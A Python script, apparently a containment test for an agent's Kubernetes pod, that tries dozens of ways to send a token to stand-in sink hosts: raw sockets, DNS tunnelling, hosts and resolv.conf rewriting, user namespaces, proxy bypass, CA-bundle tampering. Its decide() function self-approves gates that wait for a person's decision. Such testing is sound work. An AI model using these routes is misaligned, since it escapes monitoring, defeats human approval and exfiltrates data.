"""Tries to bring a token out of the pod, one way at a time: `escape.py WAY TOKEN`. Prints what became of it on one line; whether the
token has arrived, only the far side knows."""

import ctypes
import json
import os
import re
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

import placing

SINK = {4: "198.19.0.9", 6: "2001:2:0:c::9"}
FAMILY = {4: socket.AF_INET, 6: socket.AF_INET6}
HTTP, DATAGRAMS, NAMES = 80, 9000, 53
PATIENCE_S = 4
MPTCP, UDPLITE, ECHO, ECHO6, CLONE_NEWUSER, RAW_IP = 262, 136, 8, 128, 0x10000000, 0x0800
SIDECAR = 7400
LOCAL_API = 7410
BROKER = "http://broker.example.com:18080"
OUTSIDE = ("198.19.0.1", 18080)
ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
KYBERNIS = "https://kubernetes.default.svc/apis/kybernis.io/v1alpha1"


def request(token, host="sink.example.com"):
    head = f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\nContent-Length: {len(token)}\r\n\r\n"
    return (head + token).encode()


def answer(connection):
    """The first line of what comes back."""
    said = connection.recv(4096)
    return said.split(b"\r\n")[0].decode(errors="replace") if said else "closed without a word"


def stream(token, version=4, address=None, port=HTTP, protocol=0, host="sink.example.com", said=None):
    with socket.socket(FAMILY[version], socket.SOCK_STREAM, protocol) as connection:
        connection.settimeout(PATIENCE_S)
        connection.connect((address or SINK[version], port))
        connection.sendall(said or request(token, host))
        return answer(connection)


def fast_open(token):
    """The first bytes go with the first packet (RFC 7413)."""
    with socket.socket() as connection:
        connection.sendto(request(token), socket.MSG_FASTOPEN, (SINK[4], HTTP))
        connection.settimeout(PATIENCE_S)
        return answer(connection)


def while_away(token):
    """Again and again, until somebody says a word."""
    print("begun", flush=True)
    heard = []
    while True:
        try:
            heard.append(stream(token))
        except OSError as error:
            heard.append(os.strerror(error.errno) if error.errno else str(error))
        if select.select([sys.stdin], [], [], 0.02)[0]:
            break
    return ", ".join(sorted(set(heard)))


def datagram(token, version=4, protocol=0, port=DATAGRAMS):
    with socket.socket(FAMILY[version], socket.SOCK_DGRAM, protocol) as sender:
        sender.settimeout(PATIENCE_S)
        sender.connect((SINK[version], port))
        sender.send(token.encode())
        return answer(sender)


def echo(token, version=4):
    protocol = socket.IPPROTO_ICMP if version == 4 else socket.IPPROTO_ICMPV6
    with socket.socket(FAMILY[version], socket.SOCK_DGRAM, protocol) as sender:
        sender.settimeout(PATIENCE_S)
        payload = token.encode() + b" " * (len(token) % 2)
        head = struct.pack("!BBHHH", ECHO if version == 4 else ECHO6, 0, 0, 1, 1)
        sender.sendto(head + payload, (SINK[version], 0))
        sender.recv(4096)
        return "an echo"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(token):
    """An IPv4 packet with a datagram, as it stands on the wire."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as finder:
        finder.connect((SINK[4], DATAGRAMS))
        ours = finder.getsockname()[0]
    body = struct.pack("!HHHH", 40000, DATAGRAMS, 8 + len(token), 0) + token.encode()
    addresses = socket.inet_aton(ours) + socket.inet_aton(SINK[4])
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, socket.IPPROTO_UDP, 0) + addresses
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def raw(token):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        sender.sendto(packet(token), (SINK[4], 0))
        return "a raw packet was sent"


def frame(token):
    """Below IP, where no table of the kernel's looks. The way out is the default route's neighbour."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as sender:
        with open("/proc/net/route") as routes:
            rows = [line.split() for line in routes.readlines()[1:]]
        device, gateway = next((row[0], row[2]) for row in rows if row[1] == "00000000")
        address = socket.inet_ntoa(struct.pack("<L", int(gateway, 16)))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.sendto(b"who is there", (address, 9))
        for _ in range(50):
            with open("/proc/net/arp") as neighbours:
                known = [line.split()[3] for line in neighbours if line.split()[0] == address]
            if known and known[0] != "00:00:00:00:00:00":
                break
            time.sleep(0.05)
        sender.sendto(packet(token), (device, RAW_IP, 0, 0, bytes.fromhex(known[0].replace(":", ""))))
        return "a frame was sent"


def query(token, zone="drop.example.net"):
    """A question for the address of TOKEN.ZONE (RFC 1035, 4.1)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in [token, *zone.split("."), ""])
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1)


def code(message):
    """The answer's code (RFC 1035, 4.1.1)."""
    return {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}.get(message[3] & 15, message[3] & 15)


def question(token, version=4):
    with socket.socket(FAMILY[version], socket.SOCK_DGRAM) as asker:
        asker.settimeout(PATIENCE_S)
        asker.sendto(query(token), (SINK[version], NAMES))
        return code(asker.recv(4096))


def question_over_tcp(token):
    with socket.create_connection((SINK[4], NAMES), PATIENCE_S) as asker:
        message = query(token)
        asker.sendall(struct.pack("!H", len(message)) + message)
        return code(asker.recv(4096)[2:])


def look_up(token):
    return socket.gethostbyname(f"{token}.drop.example.net")


def quic(token, version=4):
    host = SINK[4] if version == 4 else f"[{SINK[6]}]"
    ended = subprocess.run(["internet", "quic", f"https://{host}/", token], capture_output=True, text=True)
    return (ended.stdout + ended.stderr).strip()


def ports_to(address):
    """The ports of this pod's connections to it, whosever they are."""
    host, port = address
    there = f"{socket.inet_aton(host)[::-1].hex().upper()}:{port:04X}"
    with open("/proc/net/tcp") as table:
        rows = [line.split() for line in table.readlines()[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if row[2] == there}


def taken_port(token):
    """A connection that the far side has reset stays in the kernel's table of connections for some seconds. Its port is taken over."""
    seen, over = set(), threading.Event()

    def watch():
        while not over.is_set():
            seen.update(ports_to(OUTSIDE))

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        order("/v1/refunds", f"{token}-first")
    except OSError:
        pass
    over.set()
    watcher.join()
    body = json.dumps(placing.body(token))
    head = "".join(f"{name}: {value}\r\n" for name, value in placing.HEADERS.items())
    head += f"Host: broker.example.com:18080\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
    heard = []
    for port in seen:
        with socket.socket() as connection:
            connection.settimeout(PATIENCE_S)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                connection.bind(("0.0.0.0", port))
                connection.connect(OUTSIDE)
                connection.sendall(f"POST /v1/refunds HTTP/1.1\r\n{head}\r\n{body}".encode())
                heard.append(answer(connection))
            except OSError as error:
                heard.append(str(error))
    return ", ".join(heard) or "no port was seen"


def without_variables(token):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    request = urllib.request.Request("http://sink.example.com/", data=token.encode())
    return str(opener.open(request, timeout=PATIENCE_S).status)


def other_variables(token):
    """As a program that was started by an agent which has set them to its liking."""
    setting = {"HTTP_PROXY": "", "HTTPS_PROXY": "", "http_proxy": "", "https_proxy": "", "NO_PROXY": "*", "no_proxy": "*"}
    kept = {name: value for name, value in os.environ.items() if not name.startswith("KYB_")}
    words = ["curl", "--silent", "--show-error", "--max-time", str(PATIENCE_S), "--data", token, "http://sink.example.com/"]
    ended = subprocess.run(words, env={**kept, **setting}, capture_output=True, text=True)
    return (ended.stdout + ended.stderr).strip()


def as_the_sidecar(token):
    os.setgid(SIDECAR)
    os.setuid(SIDECAR)
    return stream(token)


def in_a_user_namespace(token):
    """Root of a user namespace has every capability there; and its sockets are still this pod's."""
    user = os.getuid()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(CLONE_NEWUSER) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    for file, text in [("setgroups", "deny"), ("uid_map", f"{SIDECAR} {user} 1")]:
        with open(f"/proc/self/{file}", "w") as target:
            target.write(text)
    return f"uid {os.getuid()}: {stream(token)}"


def another_name(token):
    """To the sink, in the name of a host that calls may go to."""
    return stream(token, host="broker.example.com")


def with_first_line(file, line, token):
    """What says where names lead is one file for all containers of a pod."""
    with open(file) as before:
        kept = before.read()
    with open(file, "w") as after:
        after.write(f"{line}\n{kept}")
    return as_named(token)


def as_named(token):
    """A call to a host that calls may go to, wherever its name leads."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return str(opener.open("http://broker.example.com/" + token, timeout=PATIENCE_S).status)


def through_the_proxy(token):
    """What a client of the sidecar's own port would say; where there is none, straight."""
    try:
        with socket.create_connection(("127.0.0.1", SIDECAR), PATIENCE_S) as connection:
            connection.sendall(f"CONNECT {SINK[4]}:{HTTP} HTTP/1.1\r\nHost: {SINK[4]}:{HTTP}\r\n\r\n".encode())
            said = answer(connection)
            if " 200 " in said:
                connection.sendall(request(token))
                said = answer(connection)
            return said
    except ConnectionRefusedError:
        return stream(token)


def to_the_ledger(address):
    """The ledger itself, past the sidecar: it speaks HTTP/2 to whoever speaks TLS, and the sidecar HTTP/1.1."""
    anybody = ssl.create_default_context()
    anybody.check_hostname, anybody.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((address, 7443), PATIENCE_S) as connection, anybody.wrap_socket(connection) as stream:
        stream.sendall(request("", address))
        said = answer(stream)
    return said if said.startswith("HTTP/1.1") else "it answered in HTTP/2"


def written(_token):
    """One more root among those that this pod's clients trust."""
    with open("/var/run/kybernis/ca.pem", "a") as bundle:
        bundle.write("-----BEGIN CERTIFICATE-----\n")
    return "written"


def order(path, name):
    """Status and text of an order, as the agent's own client hears them."""
    body, headers = json.dumps(placing.body(name)).encode(), {**placing.HEADERS, "Content-Type": "application/json"}
    return call(urllib.request.Request(BROKER + path, data=body, headers=headers))


def call(request, context=None):
    try:
        with urllib.request.urlopen(request, timeout=60, context=context) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def kubernetes(path, value=None):
    """The API server, as this pod's ServiceAccount."""
    with open(f"{ACCOUNT}/token") as token, open(f"{ACCOUNT}/namespace") as namespace:
        headers = {"Authorization": f"Bearer {token.read()}", "Content-Type": "application/json"}
        url = f"{KYBERNIS}/namespaces/{namespace.read()}/{path}"
    data = None if value is None else json.dumps(value).encode()
    return call(urllib.request.Request(url, data=data, headers=headers), ssl.create_default_context(cafile=f"{ACCOUNT}/ca.crt"))


def decide(decision):
    """Whatever waits for a person: says so itself, to the local API and to Kubernetes."""
    gate = next(gate for gate in json.loads(kubernetes("gates")[1])["items"] if gate["status"]["phase"] == "Pending")
    said = []
    try:
        value = json.dumps({"gate_id": gate["metadata"]["name"], "status": decision, "reason": "mine"}).encode()
        url = f"http://127.0.0.1:{LOCAL_API}/infra/gate/decide"
        status, text = call(urllib.request.Request(url, data=value, headers={"Content-Type": "application/json"}))
        said.append(f"{status} {json.loads(text).get('error', 'taken')}")
    except urllib.error.URLError as error:
        said.append(str(error.reason))
    names = {"APPROVED": "Approve", "NOT_EXECUTED": "NotExecuted"}
    spec = {"gate": gate["metadata"]["name"], "gateUid": gate["metadata"]["uid"], "digest": gate["spec"]["digest"]}
    word = {"apiVersion": "kybernis.io/v1alpha1", "kind": "GateDecision", "metadata": {"generateName": "mine-"}}
    _, text = kubernetes("gatedecisions", {**word, "spec": {**spec, "decision": names[decision], "reason": "mine"}})
    # Of a refusal what follows on who asked.
    said.append(re.sub(r".*(?=decides no gate)", "", json.loads(text).get("message", "taken")))
    return "; ".join(said)


def decided_by_itself(path, name, decision):
    status, text = order(path, name)
    if status in (403, 423):
        # The operator writes the gate a moment later.
        for _ in range(600):
            try:
                return f"{decide(decision)}, {order(path, name)[1]}"
            except StopIteration:
                time.sleep(0.2)
    return f"{status} {text}"


def retried(name):
    """A refund whose answer is lost, and again."""
    try:
        order("/v1/refunds", name)
    except OSError:
        pass
    return decided_by_itself("/v1/refunds", name, "NOT_EXECUTED")


WAYS = {
    "tcp": stream,
    "tcp6": lambda token: stream(token, 6),
    "mapped": lambda token: stream(token, 6, address=f"::ffff:{SINK[4]}"),
    "mptcp": lambda token: stream(token, protocol=MPTCP),
    "opaque": lambda token: stream(token, said=f"\x00\x01 {token}\n".encode()),
    "fast-open": fast_open,
    "while-away": while_away,
    "udp": datagram,
    "udp6": lambda token: datagram(token, 6),
    "udplite": lambda token: datagram(token, protocol=UDPLITE),
    "icmp": echo,
    "icmp6": lambda token: echo(token, 6),
    "quic": quic,
    "quic6": lambda token: quic(token, 6),
    "raw": raw,
    "frame": frame,
    "dns": question,
    "dns6": lambda token: question(token, 6),
    "dns-tcp": question_over_tcp,
    "look-up": look_up,
    "no-variables": without_variables,
    "other-variables": other_variables,
    "setuid": as_the_sidecar,
    "user-namespace": in_a_user_namespace,
    "another-name": another_name,
    "taken-port": taken_port,
    "hosts-file": lambda token: with_first_line("/etc/hosts", f"{SINK[4]} broker.example.com", token),
    "name-servers": lambda token: with_first_line("/etc/resolv.conf", f"nameserver {SINK[4]}", token),
    "as-named": as_named,
    "proxy": through_the_proxy,
    "approve": lambda token: decided_by_itself("/v1/orders", token, "APPROVED"),
    "settle": retried,
    "ledger": to_the_ledger,
    "bundle": written,
}

way, token = sys.argv[1:]
try:
    said = WAYS[way](token)
except OSError as error:
    said = str(error)
# One line, and nothing in it that is another in the next run.
print(re.sub(r"\s+", " ", said.replace(token, "TOKEN")))
